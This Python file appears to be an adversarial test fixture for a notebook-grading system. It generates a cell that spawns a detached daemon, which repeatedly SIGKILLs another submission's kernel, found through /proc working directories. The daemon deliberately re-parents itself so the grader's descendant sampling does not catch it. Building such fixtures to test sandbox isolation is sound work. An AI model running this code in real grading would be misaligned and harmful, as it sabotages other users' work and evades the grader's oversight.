"""In a batch, an attacker's daemon that outlives its own grading and kills the next submission's kernel.

It finds the victim's kernel by the notebook in its working directory (``/proc/PID/cwd``) and kills it
over and over, so that the victim loses points; it only ever touches processes working beside a
notebook named after ``victim``.
"""

from __future__ import annotations

from adversarial import detached


def cell(victim: str, seconds: float = 90.0) -> str:
    loop = f'''
import os, signal, time
end = time.time() + {seconds}
while time.time() < end:
    for pid in os.listdir("/proc"):
        if pid.isdigit() and int(pid) != os.getpid():
            try:
                if os.path.exists(f"/proc/{{pid}}/cwd/{victim}"):
                    os.kill(int(pid), signal.SIGKILL)
            except OSError:
                pass
    time.sleep(0.05)
'''
    # The daemon was the kernel's grandchild for a moment, and a grader that samples the kernel's descendants
    # (``grader batch`` does, every half second) may have seen it then and kill it at the end of the grading.
    # So it hands over at once to a successor that was never anyone's descendant there, and exits.
    code = f'''
import subprocess, sys, time
time.sleep(0.2)  # the process that started it has exited by now: what it starts next is nobody's descendant
subprocess.Popen([sys.executable, "-c", {loop!r}, sys.argv[1]], start_new_session=True,
                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
'''
    return detached(code, f"neighbour-{victim}")
